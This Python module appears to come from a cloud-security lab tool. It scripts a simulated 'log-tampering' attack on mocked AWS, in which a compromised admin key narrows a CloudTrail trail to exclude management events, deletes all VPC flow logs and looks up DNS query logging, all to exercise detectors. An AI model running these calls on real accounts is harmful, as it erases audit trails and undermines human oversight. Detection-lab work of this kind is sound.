"""log-tampering: the telemetry a detector relies on turned down, quietly.

ops-admin's key from ``ATTACKER_IP_2``: the prod trail keeps "logging" but its event selectors no
longer include management events; every VPC flow log in prod is deleted; and the VPC's resolver
query logging is looked up (moto cannot disassociate it, so the lab stops at the lookup).
"""

from __future__ import annotations

from cloudwarden.lab import demo_org as org
from cloudwarden.lab.scenarios.base import Scenario, ScenarioContext, pages

READ_ONLY_DATA_ONLY = [
    {
        "ReadWriteType": "ReadOnly",
        "IncludeManagementEvents": False,
        "DataResources": [{"Type": "AWS::S3::Object", "Values": []}],
        "ExcludeManagementEventSources": [],
    }
]


def run(ctx: ScenarioContext) -> None:
    attacker = ctx.actor(f"prod/{org.USER_OPS_ADMIN}", source_ip=org.ATTACKER_IP_2,
                         user_agent=org.ATTACKER_USER_AGENT)
    cloudtrail = attacker.client("cloudtrail")
    cloudtrail.describe_trails()
    cloudtrail.get_event_selectors(TrailName=org.TRAIL_PROD)
    cloudtrail.put_event_selectors(TrailName=org.TRAIL_PROD, EventSelectors=READ_ONLY_DATA_ONLY)

    ec2 = attacker.client("ec2")
    flow_logs = pages(ec2, "describe_flow_logs", "FlowLogs")
    ids = [f["FlowLogId"] for f in flow_logs]
    if ids:
        ec2.delete_flow_logs(FlowLogIds=ids)

    resolver = attacker.client("route53resolver")
    resolver.list_resolver_query_log_configs()
    resolver.list_resolver_query_log_config_associations()


SCENARIO = Scenario(
    name="log-tampering",
    title="Trail event selectors narrowed and flow logs deleted",
    description=(
        f"prod/{org.USER_OPS_ADMIN}'s key from {org.ATTACKER_IP_2} (Kali AWS CLI): DescribeTrails, GetEventSelectors "
        f"and PutEventSelectors on {org.TRAIL_PROD} (ReadOnly, IncludeManagementEvents false, S3 data only); "
        "DescribeFlowLogs and DeleteFlowLogs of every flow log in prod; ListResolverQueryLogConfigs and "
        "ListResolverQueryLogConfigAssociations (the lab cannot disassociate query logging: moto lacks the call)."
    ),
    mitre=("T1562.008", "T1562.001"),
    finding_types=(
        "DefenseEvasion:IAMUser/AnomalousBehavior",
        "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
    ),
    run=run,
)
